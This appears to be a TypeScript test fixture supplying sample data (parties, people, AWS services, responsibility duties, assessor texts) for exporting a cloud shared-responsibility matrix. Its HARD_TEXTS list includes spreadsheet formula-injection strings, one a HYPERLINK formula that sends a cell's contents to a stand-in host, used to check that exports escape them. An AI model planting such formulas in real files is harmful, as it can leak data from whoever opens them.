import type { PartyKind } from '../../main/contract/parties.ts';

/** Text that must stay what it is in every format: formula-like starts, line breaks, other scripts, markup, escapes. */
export const HARD_TEXTS: readonly string[] = [
  '=HYPERLINK("https://example.test/?leak="&A1,"Click here")',
  '+1 approved by the change board',
  '-x option removed from the launch template',
  '@SUM(1+1) was pasted from an old sheet',
  ';=1+1 and \t=2+2, "\n-3" and ;"=4" begin a field where the separator is another',
  '\tIndented by the person who typed it',
  'Agreed in the workshop:\n1. patch within 14 days\n2. critical fixes within 48 hours\n\nOpen: who tells the shop team?',
  'Ο πάροχος διαχειρίζεται το λειτουργικό σύστημα. Η ομάδα μας ελέγχει τις ενημερώσεις κάθε μήνα.',
  'Команда платформы проверяет резервные копии каждую неделю. Отчёт хранится один год.',
  'Signed off 🔐 by the platform team 👩‍💻, “as agreed” – see §4 ½ €',
  'Tom & Jerry <b>said</b> "yes" & \'no\' ]]> done',
  'The literal code _x0041_ is not the letter A; _x000D_ is not a line break.',
  "'quoted by hand' and a trailing space ",
];

export const PARTIES: readonly { id: string; name: string; kind: PartyKind }[] = [
  { id: 'aws', name: 'AWS', kind: 'provider' },
  { id: 'organisation', name: 'Kalliope Retail', kind: 'organisation' },
  { id: 'landing-zone-team', name: 'Landing-zone team', kind: 'internal-provider' },
  { id: 'norddata', name: 'Norddata GmbH', kind: 'third-party' },
  { id: 'marketplace-sellers', name: 'Marketplace sellers', kind: 'client' },
];

export const PEOPLE: readonly { id: string; name: string; party: string; role: string | null }[] = [
  { id: 'maya-lindqvist', name: 'Maya Lindqvist', party: 'organisation', role: 'Head of platform' },
  { id: 'eleni-papadopoulou', name: 'Ελένη Παπαδοπούλου', party: 'organisation', role: 'Security architect' },
  { id: 'jonas-weber', name: 'Jonas Weber', party: 'organisation', role: 'Application owner, shop' },
  { id: 'amara-okafor', name: 'Amara Okafor', party: 'organisation', role: null },
  { id: 'dmitri-sokolov', name: 'Дмитрий Соколов', party: 'landing-zone-team', role: 'Landing-zone lead' },
  { id: 'sofia-rossi', name: 'Sofia Rossi', party: 'landing-zone-team', role: 'Identity engineer' },
  { id: 'peter-brandt', name: 'Peter Brandt', party: 'norddata', role: 'Service manager' },
  { id: 'claire-dubois', name: 'Claire Dubois', party: 'marketplace-sellers', role: 'Seller relations' },
];

export const DOMAINS: readonly (readonly [id: string, name: string, summary: string])[] = [
  ['facilities-hardware', 'Facilities and hardware', 'Buildings, power, servers and media.'],
  ['platform-foundation', 'Virtualization and platform foundation', 'Hosts, isolation and Regions.'],
  ['network', 'Network', 'The backbone below, and the network drawn on top of it.'],
  ['patching', 'Patching and versions', 'Who fixes systems, engines and images, and when.'],
  ['application-change', 'Application, configuration and change', 'Code, settings and how they change.'],
  ['identity', 'Identity, access and secrets', 'Accounts, people, roles and secrets.'],
  ['data-governance', 'Data governance', 'What the data is, where it lives and how long.'],
  ['encryption-keys', 'Encryption and keys', 'Protection at rest and in transit, and key custody.'],
  ['resilience', 'Resilience and recovery', 'Staying up, backing up and coming back.'],
  ['detection', 'Logging, monitoring and testing', 'Seeing what happens and finding weaknesses.'],
  ['response', 'Incident response', 'Who acts when something goes wrong.'],
  ['governance', 'Compliance, people and lifecycle', 'Policies, suppliers, inventory and retirement.'],
];

/** `domain: name; name; ...` per scope. Forty duties are asked of each service. */
export const DUTIES: readonly (readonly [scope: 'provider' | 'organisation' | 'service', lines: string])[] = [
  [
    'provider',
    `facilities-hardware: Physical access to data centers; Power, cooling and fire protection; Hardware maintenance and media disposal
     platform-foundation: Virtualization and tenant isolation; Host operating system and firmware patching; Regions, Availability Zones and edge sites
     network: AWS network infrastructure
     governance: AWS audit reports and certifications`,
  ],
  [
    'organisation',
    `application-change: Change and release management
     identity: Root user and account protection; Access review and revocation
     data-governance: Privacy and personal data
     detection: API audit trail; Penetration testing
     governance: Risk assessment and treatment; Security training and awareness`,
  ],
  [
    'service',
    `network: DDoS and web attack protection; Network segmentation and private connectivity; Security groups and firewall rules; Public exposure of endpoints and data; Name resolution
     patching: Guest operating system patching; Runtime and engine minor patching; Major versions and end-of-support upgrades; Images, packages and dependencies
     application-change: Application code security; Operating system hardening; Secure service configuration; Deployment pipeline security
     identity: Least-privilege permissions and policies; Service roles and machine identities; In-service users and authentication; Secrets and credential rotation; Session and token lifetime
     data-governance: Data classification and labeling; Data retention and deletion; Data integrity and correctness; Data minimisation
     encryption-keys: Encryption at rest; Encryption in transit; TLS certificate lifecycle; Key ownership, rotation and deletion; Client-side data and device protection
     resilience: Availability and failover design; Capacity, scaling and quotas; Backup configuration and retention; Restore testing; Disaster recovery across Regions
     detection: Workload and access logging; Monitoring and threat detection; Vulnerability scanning and remediation; Alert routing and on-call
     response: Incident detection, containment and recovery; Runbook maintenance
     governance: Cost and abuse limits; Tags and ownership records`,
  ],
];

export const SERVICES: readonly (readonly [label: string, service: string, category: string])[] = [
  ['Shop front', 'Amazon EC2', 'compute'],
  ['Orders database', 'Amazon RDS', 'database'],
  ['Product pictures', 'Amazon S3', 'storage'],
  ['Checkout API', 'Amazon API Gateway', 'networking'],
  ['Payment function', 'AWS Lambda', 'compute'],
  ['Content delivery', 'Amazon CloudFront', 'networking'],
  ['Customer keys', 'AWS KMS', 'security'],
  ['Audit trail', 'AWS CloudTrail', 'management'],
  ['Shop certificates', 'AWS Certificate Manager', 'security'],
  ['Shop firewall', 'AWS WAF', 'security'],
  ['Staff sign-in', 'AWS IAM Identity Center', 'security'],
  ['Reporting cluster', 'Amazon EMR', 'analytics'],
  ['Αρχείο παραγγελιών', 'Amazon S3 Glacier', 'storage'],
];

/** Two sentences each, as an assessor would type them; `$` stands for the label of the service. */
export const PROVIDER_TEXTS: readonly string[] = [
  'Runs and patches the hosts under $, and retires failed parts without notice to the customer. Its auditors test this twice a year.',
  'Keeps the service behind $ available within the Region and replicates its own metadata. Publishes events on the health dashboard.',
  'Offers the control for $ and enforces what was set. Does not choose the setting or check that it fits the data.',
  'Protects the endpoints of the service API and rate-limits abuse. Sees no content of $ in normal operation.',
];
export const CUSTOMER_TEXTS: readonly string[] = [
  'Sets and reviews the configuration of $ each quarter against the hardening baseline. Deviations are recorded and approved by the service owner.',
  'Chooses the maintenance window for $ and approves engine upgrades within thirty days. Tests the upgrade in the test account first.',
  'Grants access to $ through roles only and removes unused permissions every month. Nobody signs in with long-lived keys.',
  'Backs up $ daily to a second account and keeps copies for thirty-five days. A restore is tested every quarter and the result filed.',
  'Watches the alarms of $ around the clock and opens an incident within fifteen minutes. Findings are reviewed in the weekly meeting.',
];
export const NOTES: readonly string[] = [
  'Confirm with the platform team next week.',
  'Decided in the workshop of 12 November.\nThe database team disagreed at first; see the minutes.',
  'Same answer as for the other databases. Check once the migration is over.',
];
